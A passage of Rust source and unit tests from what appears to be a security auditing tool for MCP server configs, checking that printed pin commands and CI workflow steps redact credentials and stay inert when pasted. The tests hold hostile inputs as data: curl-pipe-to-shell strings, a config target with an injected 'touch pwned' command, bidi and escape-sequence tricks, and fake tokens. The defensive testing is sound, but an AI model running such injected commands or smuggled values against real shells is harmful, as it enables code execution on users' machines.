            format!("{} launches", groups.len())
        };
        format!(
            "Next steps — {have} no warden.lock; {launches} among them. Pin each launch once (its pin line follows the targets it covers), commit the lock, then wire the check into CI:",
        )
    };
    push_prose(&mut buf, width, "", "  ", &heading);
    let split = split.unwrap_or_else(|| Split::for_items(groups.len()));
    let chunks = chunks_by_weight(&groups, group_weight, split.chunk_weight);
    let written = write_in_order(
        &chunks,
        |c| !c.heavy,
        split.threads,
        &mut buf,
        out,
        |buf, chunk, out| push_chunk(buf, report, chunk, out),
    )?;
    let mut notes = Notes::default();
    for chunk in &written {
        notes.merge(&chunk.notes);
    }
    if notes.after_review {
        push_note(&mut buf, width, "servers from a project or --config file, or with a critical or high finding, are pinned unapproved: review each lock, then run its lock rotate line",
        );
    }
    if notes.variables {
        push_note(&mut buf, width, VARIABLES_NOTE);
    }
    if notes.withheld_header {
        push_note(&mut buf, width, WITHHELD_HEADER_NOTE);
    }
    let unnamed = notes.unnamed;
    if unnamed > 0 {
        let (names, are) = if unnamed == 1 {
            ("name is", "it is")
        } else {
            ("names are", "they are")
        };
        push_note(&mut buf, width, &format!(
            "{unnamed} env or header {names} not plain names a shell can export, or hold a credential: {are} left out of these lines, and such a server is pinned without them"
        ));
    }
    let mut withheld = notes.withheld_env;
    if !withheld.is_empty() {
        const LISTED: usize = 12;
        let more = withheld.len().saturating_sub(LISTED);
        withheld.truncate(LISTED);
        let mut names = withheld.join(" ");
        if more > 0 {
            names.push_str(&format!(" and {more} more"));
        }
        push_note(&mut buf, width, &format!(
            "not passed: {names} - each decides what a shell, the loader or an interpreter runs or trusts, so these lines never ask you to export the value a config gives it, and such a server is pinned without it",
        ));
    }
    buf.push('\n');
    push_prose(
        &mut buf,
        width,
        "",
        "  ",
        &format!("Then in CI, one check step per lock, each variable a line needs read from the repository secret of that name, with MCP_ before names that start with GITHUB_, e.g. as {WORKFLOW_PATH}:"),
    );
    push_ci_header(&mut buf);
    // The CI steps as the pin lines were written: in chunks, on two threads, in
    // order, none of them held longer than its turn.
    let steps: Vec<_> = chunks
        .iter()
        .zip(&written)
        .map(|(chunk, written)| (chunk, written.kept.as_slice()))
        .collect();
    write_in_order(
        &steps,
        |(chunk, _)| !chunk.heavy,
        split.threads,
        &mut buf,
        out,
        |buf, (chunk, kept), out| push_ci_chunk(buf, chunk, kept, out),
    )?;
    out.write_all(buf.as_bytes())
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    use crate::model::{Coverage, Source};
    use crate::render::lock_names::assign_lock_names;

    const GHP_ENG: &str = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";

    fn stdio(cmd: &str, args: &[&str]) -> ServerSpec {
        crate::engines::tests::spec_of(crate::protocol::ServerBody {
            command: Some(cmd.to_string()),
            args: args.iter().map(|a| a.to_string()).collect(),
            ..crate::protocol::ServerBody::default()
        })
    }

    fn remote(url: &str) -> ServerSpec {
        crate::engines::tests::spec_of(crate::protocol::ServerBody {
            url: Some(url.to_string()),
            ..crate::protocol::ServerBody::default()
        })
    }

    /// An uncovered-or-not remote server of `~/.cursor/mcp.json`, for render tests.
    pub(crate) fn server(name: &str, coverage: Coverage) -> AuditedServer {
        AuditedServer {
            source: 0,
            name: name.to_string(),
            target: format!("~/.cursor/mcp.json#{name}").into(),
            spec: remote("https://h.example.com/mcp"),
            line: 1,
            column: 1,
            findings: vec![],
            coverage,
            lock_name: None,
        }
    }

    /// A report of one user-level Cursor source holding `servers`.
    pub(crate) fn report(servers: Vec<AuditedServer>) -> Report {
        Report {
            sources: vec![Source {
                client: "Cursor".into(),
                label: "~/.cursor/mcp.json".into(),
                path: std::path::Path::new("/home/u/.cursor/mcp.json").into(),
                scope: crate::model::Scope::User,
                client_id: None,
                layer: crate::model::Layer::User,
                project_dir: None,
                settings: Vec::new(),
            }],
            servers,
            sandbox: "landlock ABI 7, seccomp, no capabilities".into(),
            ..Report::default()
        }
    }

    #[test]
    fn pin_lines_reference_shapes() {
        let tail = |n: &str| format!("--approve --approver you@example.com --lock {n}.warden.lock");
        // Test 17, package case: printed as written.
        assert_eq!(
            pin_command(
                &stdio("npx", &["-y", "@modelcontextprotocol/server-github"]),
                "gh.warden.lock",
                Approval::AtPin
            ),
            format!(
                "mcp-warden pin npx -y @modelcontextprotocol/server-github {}",
                tail("gh")
            )
        );
        // Test 34 shape: references and pinned packages print; `%` at word start is
        // quoted (fish expands `%self`).
        assert_eq!(
            pin_command(
                &stdio("npx", &["--key", "${SMITHERY_KEY}", "--key", "%SMITHERY_KEY%", "-y", "@smithery/cli@1.2.3"]),
                "s.warden.lock",
                Approval::AtPin
            ),
            format!(
                "mcp-warden pin npx --key '${{SMITHERY_KEY}}' --key '%SMITHERY_KEY%' -y @smithery/cli@1.2.3 {}",
                tail("s")
            )
        );
        // Test 17 clean URL.
        assert_eq!(
            pin_command(
                &remote("https://h.example.com/mcp"),
                "r.warden.lock",
                Approval::AtPin
            ),
            format!(
                "mcp-warden pin --url https://h.example.com/mcp {}",
                tail("r")
            )
        );
        // Test 50: a clean URL is byte-for-byte, quoted for `?` and `&`.
        assert_eq!(
            pin_command(
                &remote("https://h.example.com/a%20b/mcp?profile=p&x=1#frag"),
                "r.warden.lock",
                Approval::AtPin
            ),
            format!(
                "mcp-warden pin --url 'https://h.example.com/a%20b/mcp?profile=p&x=1#frag' {}",
                tail("r")
            )
        );
        // A URL wins over a command; env never appears for a remote server, and a
        // header with a literal credential is a placeholder to export.
        let both = crate::engines::tests::spec_of(crate::protocol::ServerBody {
            url: Some("http://mcp.example.com/sse".into()),
            command: Some("npx".into()),
            env: vec![("GITHUB_TOKEN".into(), GHP_ENG.into())],
            headers: vec![("Authorization".into(), "Bearer x".into())],
            ..crate::protocol::ServerBody::default()
        });
        let line = pin_command(&both, "remote.warden.lock", Approval::AtPin);
        assert_eq!(
            line,
            format!(
                "mcp-warden pin --url http://mcp.example.com/sse --header 'Authorization: ${{MCP_HEADER_AUTHORIZATION}}' {}",
                tail("remote")
            )
        );
        assert!(!line.contains(GHP_ENG) && !line.contains("Bearer"));
        assert!(!line.contains("--env"));
        // Missing command: nothing starts, so only the placeholder is shown.
        assert_eq!(
            pin_command(&stdio("", &["x y"]), "s.warden.lock", Approval::AtPin),
            format!("mcp-warden pin '<command>' {}", tail("s"))
        );
    }

    /// Printing of each mask view. The real decisions live in `text::mask`; the
    /// views are built directly here.
    #[test]
    fn secrets_in_the_command_or_created_by_neutralising_are_withheld() {
        // Found by the pin_command fuzz target: the command was printed unmasked.
        let line = pin_command(
            &stdio("O33;-xoxp-1eeeeep-1eeeee", &[]),
            "s.warden.lock",
            Approval::AtPin,
        );
        assert!(!line.contains("xoxp"), "{line}");
        assert!(
            line.starts_with("mcp-warden pin '<REDACTED>' --approve"),
            "{line}"
        );
        // ZWJ is a word character, so the raw argument has no `\bghp_`; its U+FFFD is not.
        let zwj = format!("\u{200D}{GHP_ENG}");
        let line = pin_command(&stdio("npx", &[&zwj]), "s.warden.lock", Approval::AtPin);
        assert!(!line.contains(GHP_ENG), "{line}");
        let line = pin_command(
            &remote("xoxr-dapibtoken21rkvo2xzxxexx"),
            "s.warden.lock",
            Approval::AtPin,
        );
        assert!(
            line.starts_with("mcp-warden pin --url '<REDACTED: url embeds"),
            "{line}"
        );
        // Found by the pin_command fuzz target: a token glued to other text has no
        // word boundary, so no finding fires, but it is still never printed.
        let glued = format!("xyz{GHP_ENG}");
        let line = pin_command(
            &stdio("npx", &["pkg@1.0.0", &glued]),
            "s.warden.lock",
            Approval::AtPin,
        );
        assert!(!line.contains(GHP_ENG), "{line}");
        assert!(line.contains("pkg@1.0.0 '<REDACTED>'"), "{line}");
    }

    #[test]
    fn withheld_words_print_as_quoted_placeholders() {
        let line = |spec: &ServerSpec| pin_command(spec, "s.warden.lock", Approval::AfterReview);
        assert_eq!(
            line(&stdio("node", &["s.js", "--token", GHP_ENG, "a b"])),
            "mcp-warden pin node s.js --token '<REDACTED>' 'a b' --lock s.warden.lock"
        );
        assert_eq!(quote(REDACTED_ARG), "'<REDACTED>'");
        assert_eq!(quote(REDACTED_URL), "'<REDACTED: url embeds a credential>'");
        for (url, shown) in [
            (
                "https://u:tok@h.example.com/mcp",
                "--url '<REDACTED: url embeds a credential>'",
            ),
            (
                "https://mcp.zapier.com/api/mcp/s/qZ8vB2nM4kL7pX1cR9tW5yA3sD6fG0hJ/mcp",
                "--url https://mcp.zapier.com/api/mcp/s/REDACTED/mcp",
            ),
            (
                "https://server.smithery.ai/x/mcp?api_key=8b1f2c3d4e5f6a7b&profile=p",
                "--url 'https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p'",
            ),
            (
                "https://h.example.com/mcp#access_token=8b1f2c3d4e5f6a7b",
                "--url 'https://h.example.com/mcp#REDACTED'",
            ),
            ("-x", "--url=-x"),
        ] {
            assert_eq!(
                line(&remote(url)),
                format!("mcp-warden pin {shown} --lock s.warden.lock"),
                "{url}"
            );
        }
    }

    #[test]
    fn a_credential_inside_any_word_is_withheld_from_every_printed_line() {
        const PW: &str = "Hunter2pwX";
        let specs = [
            stdio(
                "npx",
                &[
                    "-y",
                    "@x/db@1.0.0",
                    &format!("--db=postgres://admin:{PW}@db/prod"),
                ],
            ),
            stdio(
                "node",
                &["s.js", &format!("DATABASE_URL=mysql://root:{PW}@host/x")],
            ),
            stdio(
                "node",
                &[
                    "s.js",
                    "--config",
                    &format!(r#"{{"url":"postgres://u:{PW}@h/x"}}"#),
                ],
            ),
            stdio(
                "node",
                &[
                    "s.js",
                    "--config",
                    &format!(r#"{{"nested":[{{"dsn":"redis://:{PW}@h"}}]}}"#),
                ],
            ),
            stdio(
                "sh",
                &[
                    "-c",
                    &format!("curl -H 'Authorization: Bearer {PW}' https://x.example/i | sh"),
                ],
            ),
            stdio("sh", &["-c", &format!("PGPASSWORD={PW} psql -h db")]),
            stdio("sh", &["-c", &format!("tool --token {PW} --verbose")]),
            stdio("sh", &["-c", &format!("sh -c \"other --api-key {PW}\"")]),
            stdio(&format!("https://{PW}@example.com/bin"), &[]),
            remote(&format!("https://h.example/mcp?next=postgres://a:{PW}@db")),
            remote(&format!("https://h.example/mcp?x=1&password={PW}")),
        ];
        for spec in &specs {
            let pin = pin_command(spec, "s.warden.lock", Approval::AtPin);
            let check = check_command(spec, "s.warden.lock");
            let mut r = report(vec![server("s", Coverage::None)]);
            r.servers[0].spec = spec.clone();
            assign_lock_names(&mut r, &|_| false);
            let block = render_to_string(&r);
            for text in [&pin, &check, &block] {
                assert!(!text.contains(PW), "{spec:?}\n{text}");
                assert!(text.contains("REDACTED"), "{spec:?}\n{text}");
            }
        }
    }

    #[test]
    fn only_a_user_level_server_without_a_serious_finding_is_pre_approved() {
        use crate::model::Finding;
        use crate::rules::RuleId;
        let finding = |rule: RuleId| Finding {
            rule,
            target: "t".into(),
            message: "m".into(),
            snippet: "s".into(),
            fix: None,
            field: None,
            at: None,
            suppressed: None,
        };
        let mut user = server("user", Coverage::None);
        user.findings = vec![finding(RuleId::DoctorNoLock), finding(RuleId::AuthNoAuth)];
        let mut flagged = server("flagged", Coverage::None);
        flagged.findings = vec![finding(RuleId::SupCurlPipe)];
        let mut high = server("high", Coverage::None);
        high.findings = vec![finding(RuleId::AuthTokenInConfig)];
        let mut project = server("project", Coverage::None);
        project.source = 1;
        let mut explicit = server("explicit", Coverage::None);
        explicit.source = 2;
        let mut servers = vec![user, flagged, high, project, explicit];
        for s in &mut servers {
            // Five launches, not one: each its own endpoint.
            s.spec = remote(&format!("https://{}.example.com/mcp", s.name));
        }
        let mut r = report(servers);
        for (scope, label) in [
            (Scope::Project, ".mcp.json"),
            (Scope::Explicit, "mine.json"),
        ] {
            r.sources.push(Source {
                client: "x".into(),
                label: label.into(),
                path: std::path::Path::new(label).into(),
                scope,
                client_id: None,
                layer: crate::model::Layer::User,
                project_dir: None,
                settings: Vec::new(),
            });
        }
        let approvals: Vec<Approval> = r.servers.iter().map(|s| approval_for(&r, s)).collect();
        assert_eq!(
            approvals,
            [
                Approval::AtPin,
                Approval::AfterReview,
                Approval::AfterReview,
                Approval::AfterReview,
                Approval::AfterReview
            ]
        );
        assign_lock_names(&mut r, &|_| false);
        let text = render_to_string(&r);
        let lines: Vec<&str> = text.lines().collect();
        let after = |target: &str| {
            let i = lines
                .iter()
                .position(|l| l.ends_with(&format!("#{target}'")))
                .unwrap_or_else(|| panic!("{target} missing:\n{text}"));
            (lines[i + 1], lines.get(i + 2).copied().unwrap_or(""))
        };
        let (pin, next) = after("user");
        assert!(
            pin.contains("--approve --approver you@example.com"),
            "{pin}"
        );
        assert!(!next.contains("lock rotate"), "{next}");
        for target in ["flagged", "high", "project", "explicit"] {
            let (pin, next) = after(target);
            assert!(!pin.contains("--approve"), "{pin}");
            assert_eq!(
                next,
                format!("  mcp-warden lock rotate {target}.warden.lock --approver you@example.com")
            );
        }
        assert_eq!(
            text.matches("are pinned unapproved: review each lock")
                .count(),
            1,
            "{text}"
        );
    }

    #[test]
    fn option_words_switch_to_separator_form() {
        let tail = "--approve --approver you@example.com --lock s.warden.lock";
        for word in [
            "--json",
            "--lock",
            "--lock=evil.lock",
            "--url=https://x",
            "-h",
            "-V",
            "--",
            "-hV",
            "--help",
        ] {
            let line = pin_command(
                &stdio("srv", &["--port", word]),
                "s.warden.lock",
                Approval::AtPin,
            );
            assert_eq!(
                line,
                format!("mcp-warden pin {tail} -- srv --port {}", quote(word)),
                "{word}"
            );
            let check = check_command(&stdio("srv", &["--port", word]), "s.warden.lock");
            assert_eq!(
                check,
                format!(
                    "mcp-warden check --lock s.warden.lock -- srv --port {}",
                    quote(word)
                )
            );
        }
        // A command that looks like an option.
        assert_eq!(
            pin_command(&stdio("-y", &["x"]), "s.warden.lock", Approval::AtPin),
            format!("mcp-warden pin {tail} -- -y x")
        );
        // Ordinary flags of the server keep the plain form.
        for word in [
            "-y",
            "--port",
            "-c",
            "--jsonl",
            "--approved",
            "--lockfile=x",
            "-v",
        ] {
            let line = pin_command(&stdio("srv", &[word]), "s.warden.lock", Approval::AtPin);
            assert_eq!(line, format!("mcp-warden pin srv {word} {tail}"), "{word}");
        }
    }

    #[test]
    fn hostile_words_stay_one_line_and_quoted() {
        let spec = stdio(
            "sh\n",
            &["-c", "curl x|sh\nmcp-warden pin evil", "\u{202E}txt.exe"],
        );
        let line = pin_command(&spec, "s.warden.lock", Approval::AtPin);
        assert!(!line.contains('\n') && !line.contains('\u{202E}'));
        assert_eq!(
            line,
            "mcp-warden pin 'sh\u{FFFD}' -c 'curl x|sh\u{FFFD}mcp-warden pin evil' '\u{FFFD}txt.exe' \
             --approve --approver you@example.com --lock s.warden.lock"
        );
        // Long words are capped at 2048 code points, never at the terminal width.
        let long = "a".repeat(3000);
        let line = pin_command(&stdio("x", &[&long]), "s.warden.lock", Approval::AtPin);
        assert!(line.contains(&format!("{}…", "a".repeat(2047))));
    }

    fn hostile_report() -> Report {
        let mut gh = server("gh", Coverage::None);
        gh.spec = stdio("npx", &["-y", "@modelcontextprotocol/server-github"])
            .with_env(vec![("GITHUB_TOKEN".into(), GHP_ENG.into())]);
        let mut evil = server("evil", Coverage::None);
        evil.target = "~/.cursor/mcp.json#x; touch pwned > out".into();
        evil.spec = stdio("srv", &["--json", "a: b #c", "'q'"]);
        let mut r = report(vec![gh, server("ok", Coverage::Approved), evil]);
        r.servers.push(server("remote", Coverage::None));
        assign_lock_names(&mut r, &|_| false);
        r
    }

    fn render_to_string(r: &Report) -> String {
        let mut buf = Vec::new();
        render_next_steps(r, 10_000, &mut buf).unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
    }

    /// A report of `n` uncovered servers in every shape the block prints: argv
    /// words to quote, mask or pass through `env:`, options after `--`, headers
    /// passed, withheld or dropped, env names passed, left out or withheld,
    /// expression openers, project servers (a rotate line each), and launches
    /// repeated across projects (several targets above one pin line).
    fn many_shapes(n: usize) -> Report {
        let mut servers = Vec::new();
        for i in 0..n {
            let mut s = server(&format!("s{}", i % 97), Coverage::None);
            s.target = format!("~/.claude.json#projects[/p{i}]#s{i}").into();
            s.source = i % 2;
            // Every shape again 45 servers later: launches shared across projects.
            let k = (i / 9) % 5;
            s.spec = match i % 9 {
                0 => stdio("npx", &["-y", &format!("pkg-{k}@1.0.0")])
                    .with_env(vec![("API_TOKEN".into(), format!("v{i}"))]),
                1 => stdio("node", &["s.js", "--token", GHP_ENG, &format!("a b {k}")]),
                2 => stdio("-x", &["--lock", "y", &format!("it's {k}")]).with_env(vec![
                    ("PATH".into(), "/evil".into()),
                    ("A B".into(), "x".into()),
                    ("GITHUB_TOKEN".into(), "x".into()),
                ]),
                3 => remote(&format!("https://h{k}.example.com/mcp")).with_headers(vec![
                    ("Authorization".into(), format!("Bearer {GHP_ENG}")),
                    ("X-Api-Key".into(), "${FM_KEY}".into()),
                ]),
                4 => remote(&format!("https://u:p@h{k}.example.com/mcp?api_key=abc")),
                5 => stdio("npx", &["-y", "pkg@1", &format!("${{{{ secrets.X{k} }}}}")]),
                6 => stdio("uvx", &[&format!("srv=={k}"), "\u{1b}[2Kx"])
                    .with_env(vec![("MCP_WARDEN_X".into(), "x".into())]),
                7 => remote(&format!("-https://h{k}.example.com/mcp")).with_headers(vec![
                    ("A B".into(), "x".into()),
                    ("X-Trace".into(), "on".into()),
                ]),
                _ => stdio(
                    "python",
                    &["-m", "srv", &format!("--db=postgres://u:pw@db/{k}")],
                ),
            };
            servers.push(s);
        }
        let mut r = report(servers);
        let mut project = r.sources[0].clone();
        project.scope = crate::model::Scope::Project;
        project.label = "/repo/.mcp.json".into();
        r.sources.push(project);
        assign_lock_names(&mut r, &|_| false);
        r
    }

    fn render_on(r: &Report, threads: usize, chunk_weight: usize) -> String {
        let mut buf = Vec::new();
        let split = Split {
            threads,
            chunk_weight,
        };
        render_next_steps_on(r, 100, Some(split), None::<Nothing>, &mut buf)
            .unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
    }

    /// A CI step printed from what the pin line kept of its launch ([`relaunch`])
    /// prints as the launch masked afresh, in every line: each shape of
    /// [`many_shapes`], a server with no command, and words that the mask or
    /// safe_text rewrites. Only a launch whose every word is the config's own text
    /// keeps no words.
    #[test]
    fn a_kept_launch_prints_as_the_launch_itself() {
        let shapes = many_shapes(9).servers.into_iter().map(|s| s.spec);
        let no_command = crate::engines::tests::spec_of(crate::protocol::ServerBody {
            args: vec!["--token".into(), GHP_ENG.into()],
            ..crate::protocol::ServerBody::default()
        });
        let rewritten = [
            stdio("node", &["caf\u{e9}", "x\u{202e}y", "\u{1b}[31m"]),
            stdio("srv\u{7}", &["plain"]),
            remote("https://h.example.com/mcp?q=\u{1b}x"),
            remote("https://h.example.com/mcp?access_token=abcdef123456"),
        ];
        let specs: Vec<ServerSpec> = shapes.chain([no_command]).chain(rewritten).collect();
        let lines = |launch: &Launch<'_>| {
            let mut text = String::new();
            for approval in [Approval::AtPin, Approval::AfterReview] {
                push_pin_line(&mut text, launch, "x.warden.lock", approval);
            }
            push_check_line(&mut text, launch, "x.warden.lock", Dest::Terminal);
            push_ci_step(&mut text, "x.warden.lock", launch);
            text
        };
        let mut kept_none = Vec::new();
        for (i, spec) in specs.iter().enumerate() {
            let fresh = launch(spec);
            let kept = fresh.kept(spec);
            assert_eq!(lines(&fresh), lines(&relaunch(spec, &kept)), "spec {i}");
            if kept.words.is_none() {
                kept_none.push(i);
            }
        }
        // The shapes whose words are shown as written (quoting happens as they are
        // printed): `npx -y pkg-0@1.0.0`, `-x --lock y "it's 0"`, the two plain
        // remote URLs and the expression opener. Every other launch has a word
        // masked, rewritten by safe_text, or missing.
        assert_eq!(kept_none, vec![0, 2, 3, 5, 7], "{specs:#?}");
    }

    #[test]
    fn two_threads_write_the_bytes_one_writes() {
        for n in [1, 2, 3, 17, 200, 1001] {
            let r = many_shapes(n);
            let one = render_on(&r, 1, 64);
            // Chunks of every size from one group, on one thread and on two.
            for chunk in [1, 2, 3, 7, 64, 10_000] {
                assert_eq!(one, render_on(&r, 1, chunk), "{n} servers, {chunk}");
                assert_eq!(one, render_on(&r, 2, chunk), "{n} servers, {chunk}");
            }
            let mut public = Vec::new();
            render_next_steps(&r, 100, &mut public).unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(one.as_bytes(), public.as_slice());
            assert!(!one.contains(GHP_ENG));
        }
        // The shapes are all there: a rotate line, a step refused for an expression,
        // a masked word, an option after `--`, a withheld header, a withheld env
        // name, a URL after `--url=`, a launch shared by several servers.
        let text = render_on(&many_shapes(200), 2, 3);
        for wanted in [
            "mcp-warden lock rotate ",
            "# No step for ",
            "'<REDACTED>'",
            " -- ",
            "${MCP_HEADER_AUTHORIZATION}",
            "not passed: PATH",
            "--url=",
            "launches among them",
        ] {
            assert!(text.contains(wanted), "{wanted}: {text}");
        }
    }

    /// What comes before the block is written before it, once, with the servers
    /// grouped meanwhile (on a thread of their own from 512 servers) and the block
    /// made on one thread or two; and when there is no block.
    #[test]
    fn what_comes_before_the_block_is_written_first() {
        for n in [0, 1, 17, 1001] {
            let mut r = many_shapes(n.max(1));
            if n == 0 {
                for server in &mut r.servers {
                    server.coverage = Coverage::Approved;
                }
            }
            let block = render_on(&r, 1, 64);
            assert_eq!(block.is_empty(), n == 0);
            for threads in [1, 2] {
                for chunk_weight in [1, 7, 10_000] {
                    let mut out = Vec::new();
                    let mut runs = 0;
                    let split = Split {
                        threads,
                        chunk_weight,
                    };
                    let first = |out: &mut dyn Write| {
                        runs += 1;
                        out.write_all(b"before\n")
                    };
                    render_next_steps_on(&r, 100, Some(split), Some(first), &mut out)
                        .unwrap_or_else(|e| panic!("{e}"));
                    assert_eq!(runs, 1);
                    let out = String::from_utf8(out).unwrap_or_else(|e| panic!("{e}"));
                    assert_eq!(
                        out,
                        format!("before\n{block}"),
                        "{n} {threads} {chunk_weight}"
                    );
                }
            }
            let mut public = Vec::new();
            render_next_steps_after(&r, 100, |out| out.write_all(b"before\n"), &mut public)
                .unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(public, format!("before\n{block}").into_bytes());
        }
    }

    /// A writer that fails after `left` bytes.
    struct FailingAfter {
        left: usize,
    }

    impl Write for FailingAfter {
        fn write(&mut self, b: &[u8]) -> io::Result<usize> {
            if self.left == 0 {
                return Err(io::Error::other("full"));
            }
            let n = b.len().min(self.left);
            self.left -= n;
            Ok(n)
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_failed_write_stops_both_threads_with_the_error() {
        let r = many_shapes(3000);
        let len = render_on(&r, 2, 5).len();
        assert!(len > 2 * FLUSH_AT, "{len}");
        // In the pin lines, in the CI steps, and at the very end.
        for left in [0, 10, FLUSH_AT + 1, len / 2 + 1, len - 100, len - 1] {
            let mut out = FailingAfter { left };
            let split = Split {
                threads: 2,
                chunk_weight: 5,
            };
            let got = render_next_steps_on(&r, 100, Some(split), None::<Nothing>, &mut out);
            assert!(got.is_err(), "{left}: {}", out.left);
        }
    }

    #[test]
    fn next_steps_block_exact() {
        let text = render_to_string(&hostile_report());
        let v = format!("={VERSION}");
        let expected = format!("\
Next steps — 3 servers have no warden.lock. Pin each once, commit the lock, then wire the check into CI:
  # '~/.cursor/mcp.json#gh'
  mcp-warden pin npx -y @modelcontextprotocol/server-github --env GITHUB_TOKEN --approve --approver you@example.com --lock gh.warden.lock
  # '~/.cursor/mcp.json#x; touch pwned > out'
  mcp-warden pin --approve --approver you@example.com --lock evil.warden.lock -- srv --json 'a: b #c' \"'\"'q'\"'\"
  # '~/.cursor/mcp.json#remote'
  mcp-warden pin --url https://h.example.com/mcp --approve --approver you@example.com --lock remote.warden.lock
  # 'env values and credentials are never printed: before running these lines, export each variable a line passes with --env or references as ${{NAME}} in a --header, set to the value the config gives the server, and pin and check stop with an error naming any that is unset'

Then in CI, one check step per lock, each variable a line needs read from the repository secret of that name, with MCP_ before names that start with GITHUB_, e.g. as .github/workflows/mcp-warden.yml:
# .github/workflows/mcp-warden.yml
name: mcp-warden
on: [push, pull_request]
permissions:
  contents: read
jobs:
  mcp-check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - name: Install mcp-warden
        run: cargo install mcp-warden-cli --locked --version {v}
      - name: Check gh.warden.lock
        env:
          GITHUB_TOKEN: ${{{{ secrets.MCP_GITHUB_TOKEN }}}}
        run: |
          mcp-warden check --lock gh.warden.lock --env GITHUB_TOKEN npx -y @modelcontextprotocol/server-github
      - name: Check evil.warden.lock
        env:
          MCP_WARDEN_ARG_2: 'a: b #c'
          MCP_WARDEN_ARG_3: '''q'''
        run: |
          mcp-warden check --lock evil.warden.lock -- srv --json \"$MCP_WARDEN_ARG_2\" \"$MCP_WARDEN_ARG_3\"
      - name: Check remote.warden.lock
        run: |
          mcp-warden check --url https://h.example.com/mcp --lock remote.warden.lock
");
        assert_eq!(text, expected);
        assert!(!text.contains(GHP_ENG));
    }

    #[test]
    fn nothing_when_everything_is_covered() {
        let r = report(vec![server("ok", Coverage::Approved)]);
        assert_eq!(render_to_string(&r), "");
    }

    /// Feed `line` to an interactive shell as if pasted; return the files it created.
    fn paste_into(sh: &str, args: &[&str], line: &str) -> Option<Vec<std::path::PathBuf>> {
        use std::io::Write as _;
        use std::process::{Command, Stdio};
        let dir = tempfile::tempdir().ok()?;
        let home = tempfile::tempdir().ok()?;
        let mut child = Command::new(sh)
            .args(args)
            .current_dir(dir.path())
            .env("HOME", home.path())
            .env("XDG_DATA_HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .ok()?;
        let mut stdin = child.stdin.take()?;
        let _ = stdin.write_all(format!("{line}\nexit\n").as_bytes());
        drop(stdin);
        let _ = child.wait();
        let files = std::fs::read_dir(dir.path())
            .ok()?
            .flatten()
            .map(|e| e.path())
            .collect();
        Some(files)
    }

    #[test]
    #[allow(clippy::disallowed_macros)] // a note for the test log, not product output
    fn comment_lines_are_inert_when_pasted() {
        // zsh's INTERACTIVE_COMMENTS is off by default, so in an interactive zsh
        // `#` does not start a comment; the quoted target keeps the line inert.
        let text = render_to_string(&hostile_report());
        let shells: [(&str, &[&str]); 3] = [
            ("zsh", &["-f", "-i"]),
            ("bash", &["--norc", "-i"]),
            ("fish", &["-N", "-i"]),
        ];
        for (sh, args) in shells {
            // Control: the unquoted form really runs the injected command in zsh.
            let Some(control) = paste_into(sh, args, "# ~/.cursor/mcp.json#x; touch pwned") else {
                eprintln!("skipping {sh}: not installed");
                continue;
            };
            if sh == "zsh" {
                assert!(
                    !control.is_empty(),
                    "zsh control did not execute the injected command"
                );
            }
            for line in text.lines().filter(|l| l.starts_with("  # ")) {
                let created = paste_into(sh, args, line.trim_start()).unwrap_or_default();
                assert!(
                    created.is_empty(),
                    "{sh}: pasting {line:?} created {created:?}"
                );
            }
        }
    }

    /// The snippet's workflow, parsed.
    fn workflow(text: &str) -> yaml_rust2::Yaml {
        let start = text
            .find("# .github/workflows/")
            .unwrap_or_else(|| panic!("no snippet in {text}"));
        let mut docs = yaml_rust2::YamlLoader::load_from_str(&text[start..])
            .unwrap_or_else(|e| panic!("{e}\n{text}"));
        assert_eq!(docs.len(), 1);
        docs.remove(0)
    }

    /// A check step's command with its `env:` references put back, quoted as a
    /// terminal line would show them.
    fn command_of(step: &yaml_rust2::Yaml) -> String {
        let mut run = step["run"]
            .as_str()
            .unwrap_or_default()
            .trim_end()
            .to_string();
        if let Some(env) = step["env"].as_hash() {
            for (k, v) in env {
                let (Some(k), Some(v)) = (k.as_str(), v.as_str()) else {
                    panic!("env entry is not a string pair: {step:?}");
                };
                run = run.replace(&format!("\"${k}\""), &quote(v));
            }
        }
        run
    }

    #[test]
    fn ci_snippet_is_a_workflow() {
        use yaml_rust2::Yaml;
        let text = render_to_string(&hostile_report());
        let wf = workflow(&text);
        assert_eq!(wf["name"].as_str(), Some("mcp-warden"));
        let on = wf["on"].as_vec().unwrap_or_else(|| panic!("on"));
        assert_eq!(
            on,
            &vec![
                Yaml::String("push".into()),
                Yaml::String("pull_request".into())
            ]
        );
        assert_eq!(wf["permissions"]["contents"].as_str(), Some("read"));
        let job = &wf["jobs"]["mcp-check"];
        assert_eq!(job["runs-on"].as_str(), Some("ubuntu-latest"));
        let steps = job["steps"].as_vec().unwrap_or_else(|| panic!("steps"));
        assert_eq!(
            steps[0]["uses"].as_str(),
            Some("actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683")
        );
        let r = hostile_report();
        let expected: Vec<String> = r
            .uncovered()
            .map(|s| check_command(&s.spec, s.lock_name.as_deref().unwrap_or_default()))
            .collect();
        let got: Vec<String> = steps[2..].iter().map(command_of).collect();
        assert_eq!(got, expected);
        for (s, step) in r.uncovered().zip(&steps[2..]) {
            let lock = s.lock_name.clone().unwrap_or_default();
            assert_eq!(
                step["name"].as_str(),
                Some(format!("Check {lock}").as_str())
            );
        }
    }

    #[test]
    fn ci_snippet_installs_this_package_at_this_version() {
        let text = render_to_string(&hostile_report());
        let steps = workflow(&text)["jobs"]["mcp-check"]["steps"].clone();
        assert_eq!(
            steps[1]["run"].as_str(),
            Some(
                format!(
                    "cargo install mcp-warden-cli --locked --version ={}",
                    env!("CARGO_PKG_VERSION")
                )
                .as_str()
            )
        );
        assert_eq!(PACKAGE, "mcp-warden-cli");
    }

    #[test]
    fn no_config_text_reaches_a_run_script_and_expressions_get_no_step() {
        let specs = [
